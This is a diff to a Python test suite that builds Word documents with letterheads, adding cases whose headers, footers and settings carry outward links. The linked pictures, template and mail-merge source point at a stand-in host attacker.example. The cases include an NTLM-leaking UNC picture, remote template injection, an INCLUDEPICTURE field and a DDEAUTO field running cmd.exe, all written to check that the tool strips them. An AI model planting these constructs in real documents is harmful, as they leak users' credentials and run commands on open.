@@ -38,6 +38,7 @@ class WordCase:
     letterhead: str  # "ok": the report is written on it; "refused": a message naming it, no report
     codes: set[str] = field(default_factory=set)  # findings `split` must report
     header_kept: bool = True  # with "ok": the letterhead's header text reaches the report
+    links: tuple[str, ...] = ()  # with "ok": targets outside the file, each dropped and named (letterhead-link)
 
 
 def _png() -> bytes:
@@ -309,6 +310,81 @@ def _absolute_names(path: Path) -> None:
     src.unlink()
 
 
+HEADER = "word/header1.xml"
+FOOTER = "word/footer1.xml"
+SETTINGS = "word/settings.xml"
+UNC = "file://///attacker.example/share/pixel.png"  # Word fetches it on open: and sends the user's NTLM login
+HTTP = "http://attacker.example/pixel.png"
+PAGE_URL = "https://attacker.example/login"
+TEMPLATE = "file://///attacker.example/share/Normal.dotm"
+MERGE_SOURCE = r"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\attacker.example\share\data.xlsx"
+FIELD = r'INCLUDEPICTURE "\\\\attacker.example\\share\\field.png" \d'
+DDE = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _with_rels(part: str, *rels: tuple[str, str, str]) -> Callable[[str, bytes], bytes]:
+    """Relationships (id, type, target) outside the package added to `part`'s relationships part."""
+    items = "".join(f'<Relationship Id="{rid}" Type="{_REL}/{kind}" Target="{target}" TargetMode="External"/>'
+                    for rid, kind, target in rels).encode()
+
+    def fn(name: str, data: bytes) -> bytes:
+        return data.replace(b"</Relationships>", items + b"</Relationships>") if name == _rels_of(part) else data
+    return fn
+
+
+def _then(*edits: Callable[[str, bytes], bytes]) -> Callable[[str, bytes], bytes]:
+    def fn(name: str, data: bytes) -> bytes:
+        for edit in edits:
+            data = edit(name, data)
+        return data
+    return fn
+
+
+def _drawing(data: bytes) -> bytes:
+    return re.search(rb"<w:p><w:r><w:drawing>.*?</w:drawing></w:r></w:p>", data, re.S).group(0)
+
+
+def _linked_picture(data: bytes) -> bytes:
+    """A second picture in the header, linked to a file on a share (Word's «Связать с файлом»)."""
+    linked = _drawing(data).replace(b'r:embed="rId1"', b'r:link="rIdUnc"')
+    return data.replace(b"</w:hdr>", linked + b"</w:hdr>")
+
+
+def _vml_and_both(data: bytes) -> bytes:
+    """A VML picture from a web address, and the header's picture both embedded and linked («Вставить и связать»)."""
+    vml = (b'<w:p><w:r><w:pict><v:shape id="p1" style="width:10pt;height:10pt"><v:imagedata r:id="rIdWeb"/>'
+           b'</v:shape></w:pict></w:r></w:p>')
+    data = data.replace(b'r:embed="rId1"', b'r:embed="rId1" r:link="rIdWeb"')
+    return data.replace(b"</w:hdr>", vml + b"</w:hdr>")
+
+
+def _hyperlinked(data: bytes) -> bytes:
+    """The header's text and its picture are links to a web page."""
+    data = re.sub(rb"(<w:r><w:t>[^<]*</w:t></w:r>)", rb'<w:hyperlink r:id="rIdPage">\1</w:hyperlink>', data, count=1)
+    return data.replace(b'<wp:docPr id="1" name="Picture 1"/>',
+                        b'<wp:docPr id="1" name="Picture 1"><a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/'
+                        b'drawingml/2006/main" r:id="rIdPage"/></wp:docPr>')
+
+
+def _template_and_merge(data: bytes) -> bytes:
+    """Settings with an attached template on a share and a mail merge from a workbook there."""
+    merge = (b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/><w:connectString w:val="'
+             + MERGE_SOURCE.encode() + b'"/><w:query w:val="SELECT * FROM `x`"/></w:mailMerge>')
+    return re.sub(rb"(<w:settings [^>]*>)", lambda m: m.group(1) + b'<w:attachedTemplate r:id="rIdTpl"/>' + merge,
+                  data, count=1)
+
+
+def _fields(data: bytes) -> bytes:
+    """The footer fetches a picture through a field and runs a program through DDEAUTO."""
+    complex_ = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
+                + FIELD.encode() + b' </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+                + "<w:r><w:t>герб</w:t></w:r>".encode() + b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+    simple = (b'<w:p><w:fldSimple w:instr=" ' + DDE.replace('"', "&quot;").encode()
+              + b' "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')
+    return data.replace(b"</w:ftr>", complex_ + simple + b"</w:ftr>")
+
+
 def cases() -> list[WordCase]:
     """Every case, not yet written (their names serve as test ids)."""
     return [
@@ -349,6 +425,22 @@ def cases() -> list[WordCase]:
         WordCase("number-spans-two.docx", edited(on(DOC, _number_spans_two)), 3, "ok"),
         WordCase("huge-span.docx", edited(on(DOC, _huge_span)), 3, "ok"),
         WordCase("wide-table.docx", edited(on(DOC, _wide)), 3, "ok"),
+        # links out of the letterhead: dropped with what refers to them, each named (letterhead-link)
+        WordCase("linked-picture-unc.docx", edited(_then(on(HEADER, _linked_picture),
+                                                         _with_rels(HEADER, ("rIdUnc", "image", UNC))), events=EVENTS),
+                 3, "ok", links=(UNC,)),
+        WordCase("linked-picture-http.docx", edited(_then(on(HEADER, _vml_and_both),
+                                                          _with_rels(HEADER, ("rIdWeb", "image", HTTP))), events=EVENTS),
+                 3, "ok", links=(HTTP,)),
+        WordCase("header-hyperlink.docx", edited(_then(on(HEADER, _hyperlinked),
+                                                       _with_rels(HEADER, ("rIdPage", "hyperlink", PAGE_URL)))),
+                 3, "ok", links=(PAGE_URL,)),
+        WordCase("attached-template.docx", edited(on(SETTINGS, _template_and_merge), extra={_rels_of(SETTINGS): (
+            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.'
+            f'org/package/2006/relationships"><Relationship Id="rIdTpl" Type="{_REL}/attachedTemplate" '
+            f'Target="{TEMPLATE}" TargetMode="External"/></Relationships>').encode()}), 3, "ok",
+                 links=(TEMPLATE, MERGE_SOURCE)),
+        WordCase("outward-fields.docx", edited(on(FOOTER, _fields)), 3, "ok", links=(FIELD, DDE)),
         WordCase("long-cell.docx", edited(lambda n, d: d, events=[(*EVENTS[0][:3], LONG, EVENTS[0][4]), *EVENTS[1:]]),
                  3, "ok", codes={"cell-shortened"}),
     ]
